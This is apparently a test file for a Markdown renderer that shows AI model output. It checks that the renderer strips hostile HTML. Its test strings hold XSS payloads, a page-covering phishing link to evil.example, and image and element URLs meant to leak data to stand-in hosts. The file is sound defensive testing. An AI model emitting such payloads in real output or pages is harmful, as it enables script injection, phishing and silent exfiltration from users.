// @vitest-environment jsdom
import { cleanup, render, screen } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { loadMarkdownRenderer, Markdown } from './markdown.tsx';

const payload = 'Found it **here** [#E1] and #E12. <img src=x onerror="window.__xss=1"><script>window.__xss=2</script> [bad](javascript:window.__xss=3) [docs](https://example.org/)';

afterEach(cleanup);

describe('Markdown', () => {
  it('shows plain text with citation links until marked and DOMPurify are loaded', () => {
    const { container } = render(<Markdown text={payload} />);
    expect(screen.getByRole('link', { name: '#E1' }).getAttribute('href')).toBe('#step-E1');
    expect(screen.getByRole('link', { name: '#E12' }).getAttribute('href')).toBe('#step-E12');
    // Nothing from the text is HTML yet: the tags are text.
    expect(container.querySelector('img, script, strong')).toBeNull();
    expect(container.textContent).toContain('<script>');
  });

  it('then renders sanitised markdown: no script, no handlers, no javascript: links; citations stay in the page', async () => {
    await loadMarkdownRenderer();
    const { container } = render(<Markdown text={payload} />);
    await screen.findByText('here', { selector: 'strong' });
    expect(container.querySelector('script, [onerror], [href^="javascript:"]')).toBeNull();
    expect((window as { __xss?: number }).__xss).toBeUndefined();
    const citation = screen.getByRole('link', { name: '#E1' });
    expect(citation.getAttribute('href')).toBe('#step-E1');
    expect(citation.getAttribute('target')).toBeNull();
    const external = screen.getByRole('link', { name: /^docs/ });
    expect(external.getAttribute('target')).toBe('_blank');
    expect(external.getAttribute('rel')).toBe('noopener noreferrer');
  });
});

describe('Markdown against hostile model text', () => {
  const overlay = '<a style="position:fixed;inset:0;z-index:2147483647" class="dialog-backdrop" id="step-E1" href="https://evil.example/login">Session expired</a>';

  it('keeps no style, class or id: a link cannot cover the page or take over an anchor', async () => {
    await loadMarkdownRenderer();
    const { container } = render(<Markdown text={`Answer. ${overlay}`} />);
    const link = await screen.findByRole('link', { name: /Session expired/ });
    expect(link.getAttribute('style')).toBeNull();
    expect(link.getAttribute('class')).toBeNull();
    expect(link.getAttribute('id')).toBeNull();
    expect(container.querySelector('[style], [id], [class]:not(.markdown):not(.link-target)')).toBeNull();
    // Opens in a new tab, without opener or referrer, and says where it goes.
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(link.textContent).toContain('(evil.example)');
    expect(link.getAttribute('title')).toBe('https://evil.example/login');
  });

  it('loads no remote image by itself: a placeholder names the host and loads it on a click', async () => {
    await loadMarkdownRenderer();
    const { container } = render(<Markdown text="Look: ![chart](http://127.0.0.1:9/leak?evidence=secret) and <img src=https://sink.example/x.png>" />);
    expect(container.querySelector('img')).toBeNull();
    const placeholder = await screen.findByRole('button', { name: 'Load image "chart" from 127.0.0.1:9' });
    screen.getByRole('button', { name: 'Load image from sink.example' });
    placeholder.click();
    const image = await screen.findByRole('img', { name: 'chart' });
    expect(image.getAttribute('src')).toBe('http://127.0.0.1:9/leak?evidence=secret');
    expect(image.getAttribute('referrerpolicy')).toBe('no-referrer');
    // Only the clicked one.
    expect(container.querySelectorAll('img')).toHaveLength(1);
  });

  it('drops every other element or attribute that loads by itself or takes input', async () => {
    await loadMarkdownRenderer();
    const hostile = [
      '<video poster="https://sink.example/p.png" src="https://sink.example/v.mp4"></video>',
      '<audio src="https://sink.example/a.mp3" autoplay></audio>',
      '<picture><source srcset="https://sink.example/s.png"></picture>',
      '<img srcset="https://sink.example/1.png 1x">',
      '<table background="https://sink.example/b.png"><tr><td>x</td></tr></table>',
      '<object data="https://sink.example/o"></object><embed src="https://sink.example/e">',
      '<iframe src="https://sink.example/f"></iframe>',
      '<link rel="prefetch" href="https://sink.example/l"><meta http-equiv="refresh" content="0;url=https://sink.example/m">',
      '<svg><image href="https://sink.example/i.png"/></svg>',
      '<form action="https://sink.example/f"><input type="image" src="https://sink.example/in.png"><button formaction="https://sink.example/b">Go</button></form>',
      '<a href="https://docs.example/p" ping="https://sink.example/ping">ping</a>',
      '<button data-stepwise-src="https://sink.example/fake">Continue</button>',
      '<div popover id="x">popover</div>',
    ].join('\n');
    const { container } = render(<Markdown text={`Start\n\n${hostile}\n\nEnd`} />);
    await screen.findByText('Start');
    expect(container.innerHTML).not.toContain('sink.example/');
    expect(container.querySelector('video, audio, source, picture, object, embed, iframe, link, meta, svg, form, input, [popover], [ping]')).toBeNull();
    // The only buttons are placeholders the renderer made itself (here: none).
    expect(container.querySelector('button')).toBeNull();
  });

  it('shows text too long to format as plain text, with a note, instead of blanking the page', async () => {
    await loadMarkdownRenderer();
    const huge = `**bold** #E1 ${'[a]('.repeat(60_000)}`;
    render(<Markdown text={huge} />);
    expect(screen.getByText(/too many to format: it is shown as plain text/)).toBeTruthy();
    expect(screen.getByRole('link', { name: '#E1' }).getAttribute('href')).toBe('#step-E1');
    expect(document.querySelector('strong')).toBeNull();
  });
});
